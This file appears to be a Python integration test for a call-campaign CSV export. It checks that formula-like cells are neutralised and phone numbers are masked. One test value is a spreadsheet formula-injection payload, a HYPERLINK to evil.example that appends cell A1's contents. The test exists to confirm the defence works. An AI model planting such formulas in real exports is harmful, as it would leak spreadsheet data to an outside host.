"""``campaign results`` writes a CSV a spreadsheet opens safely: a dedupe key or a bad row's
value that starts like a formula is neutralised, the masked number is left as it is. On the
dev server, the campaign's calls through the simulator and the bridge."""

from __future__ import annotations

import csv
import uuid
from pathlib import Path

import pytest
from temporalio.testing import WorkflowEnvironment

from cli.campaigns import export_results
from outbound_calls_client.campaign import CampaignRequest
from outbound_calls_client.contacts import CallTemplate, ContactSource
from outbound_calls_client.models import CallingWindow
from outbound_calls_client.names import CALL_WORKFLOW
from outbound_calls_client.start import start_campaign
from tests.helpers.call_harness import eventually, live_stack

pytestmark = pytest.mark.integration


async def test_results_csv_neutralises_formula_cells(
    dev_env: WorkflowEnvironment, tmp_path: Path
) -> None:
    key = f'=HYPERLINK("http://evil.example/?"&A1,"open")-{uuid.uuid4().hex[:6]}'
    contacts = tmp_path / "contacts.csv"
    with contacts.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["to_number", "dedupe_key"])
        writer.writerow(["+14155550142", key])
        writer.writerow(["+99912", "@bad-row"])  # a bad number: the row is listed as invalid
    campaign_id = f"csv-{uuid.uuid4().hex[:8]}"
    request = CampaignRequest(
        campaign_id=campaign_id,
        contacts=ContactSource(
            location=str(contacts),
            template=CallTemplate(
                from_number="+12125550199",
                agent_id="agent_test",
                calling_window=CallingWindow(enabled=False),
            ),
        ),
    )
    results = tmp_path / "results.csv"
    async with live_stack(dev_env.client, time_scale=0.002) as stack:
        handle = await start_campaign(dev_env.client, request, task_queue=stack.task_queue)
        summary = await handle.result()
        # A call reports to its campaign just before it closes: the export reads closed ones.
        running = (
            f'WorkflowType = "{CALL_WORKFLOW}" AND CampaignId = "{campaign_id}"'
            ' AND ExecutionStatus = "Running"'
        )

        async def closed() -> bool:
            return (await dev_env.client.count_workflows(running)).count == 0

        await eventually(closed, what="the campaign's call to close")
        written = await export_results(dev_env.client, campaign_id, summary.bad_rows, results)
    assert written == 2
    with results.open(newline="") as stream:
        rows = {r["row"]: r for r in csv.DictReader(stream)}
    called = rows["2"]
    assert called["status"] == "completed"
    assert called["dedupe_key"] == "'" + key
    assert called["to_number_masked"].startswith("+1")  # masked, and not quoted
    assert "*" in called["to_number_masked"]
    assert rows["3"]["status"] == "invalid_row"
